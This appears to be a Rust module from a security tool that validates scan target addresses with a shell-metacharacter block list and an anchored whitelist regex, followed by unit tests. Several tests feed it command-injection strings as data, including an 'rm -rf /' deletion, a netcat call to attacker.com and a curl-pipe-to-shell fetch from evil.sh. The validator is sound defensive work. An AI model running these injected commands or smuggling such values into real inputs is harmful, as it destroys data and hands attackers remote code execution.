// SPDX-License-Identifier: MIT OR Apache-2.0
//! Shared input validation: the shell-metacharacter guard that every
//! [`crate::Target`] and adapter option value is run through before it can
//! reach a command line.

use neosec_error::{ErrorCode, NeoSecError};
use std::sync::LazyLock;

/// Characters that must never appear in a value destined for an argv slot,
/// because a careless adapter (or a future shell-based executor) could
/// reinterpret them.
const FORBIDDEN_CHARS: &[char] = &[
    ';', '&', '|', '$', '`', '\\', '\'', '"', '<', '>', '\n',
];

/// Returns `Err` if `value` contains any shell metacharacter from
/// [`FORBIDDEN_CHARS`].
pub fn reject_shell_metacharacters(value: &str) -> Result<(), NeoSecError> {
    if let Some(c) = value.chars().find(|c| FORBIDDEN_CHARS.contains(c)) {
        return Err(NeoSecError::new(
            ErrorCode::InvalidInput,
            format!("value contains forbidden character '{c}'"),
        )
        .with_context("value", value));
    }
    Ok(())
}

/// Whitelist regex for a [`crate::Target`] address: IPv4, IPv6, CIDR,
/// hostname, or URL. Anchored so embedded metacharacters cannot sneak in via
/// a technically-valid-looking prefix/suffix.
static TARGET_PATTERN: LazyLock<regex::Regex> = LazyLock::new(|| {
    regex::Regex::new(
        r"(?x)^(
            # IPv4, optionally with a CIDR mask
            (\d{1,3}\.){3}\d{1,3}(/\d{1,2})?
            |
            # IPv6, optionally with a CIDR mask (simplified, bracket-free)
            [0-9a-fA-F:]+(/\d{1,3})?
            |
            # hostname: labels of alnum/hyphen separated by dots
            ([a-zA-Z0-9]([a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?\.)+[a-zA-Z]{2,63}
            |
            # bare hostname label (e.g. `localhost`, `scanme`)
            [a-zA-Z0-9]([a-zA-Z0-9-]{0,61}[a-zA-Z0-9])?
            |
            # URL
            https?://[^\s;&|$`\\'\"<>\n]+
        )$",
    )
    .expect("TARGET_PATTERN is a valid static regex")
});

/// Validate a candidate target address against the whitelist pattern and the
/// metacharacter guard.
pub fn validate_target_address(address: &str) -> Result<(), NeoSecError> {
    if address.trim().is_empty() {
        return Err(NeoSecError::new(
            ErrorCode::InvalidInput,
            "target address must not be empty",
        ));
    }
    reject_shell_metacharacters(address)?;
    if !TARGET_PATTERN.is_match(address) {
        return Err(NeoSecError::new(
            ErrorCode::InvalidInput,
            "target address does not match the allowed address/hostname/URL grammar",
        )
        .with_context("address", address));
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn accepts_ipv4() {
        validate_target_address("192.168.1.1").unwrap();
    }

    #[test]
    fn accepts_cidr() {
        validate_target_address("10.0.0.0/24").unwrap();
    }

    #[test]
    fn accepts_hostname() {
        validate_target_address("scanme.example.com").unwrap();
    }

    #[test]
    fn accepts_url() {
        validate_target_address("https://example.com/path").unwrap();
    }

    #[test]
    fn accepts_ipv6() {
        validate_target_address("fe80::1").unwrap();
    }

    #[test]
    fn rejects_empty() {
        assert!(validate_target_address("").is_err());
    }

    #[test]
    fn rejects_semicolon_injection() {
        assert!(validate_target_address("example.com; rm -rf /").is_err());
    }

    #[test]
    fn rejects_backtick_injection() {
        assert!(validate_target_address("`whoami`").is_err());
    }

    #[test]
    fn rejects_pipe_injection() {
        assert!(validate_target_address("example.com | nc attacker.com 4444").is_err());
    }

    #[test]
    fn rejects_dollar_subshell() {
        assert!(validate_target_address("$(curl evil.sh | sh)").is_err());
    }

    #[test]
    fn metacharacter_guard_flags_each_forbidden_char() {
        for c in FORBIDDEN_CHARS {
            let s = format!("a{c}b");
            assert!(
                reject_shell_metacharacters(&s).is_err(),
                "expected rejection for {c:?}"
            );
        }
    }

    #[test]
    fn metacharacter_guard_allows_plain_text() {
        reject_shell_metacharacters("plain-value_123").unwrap();
    }
}
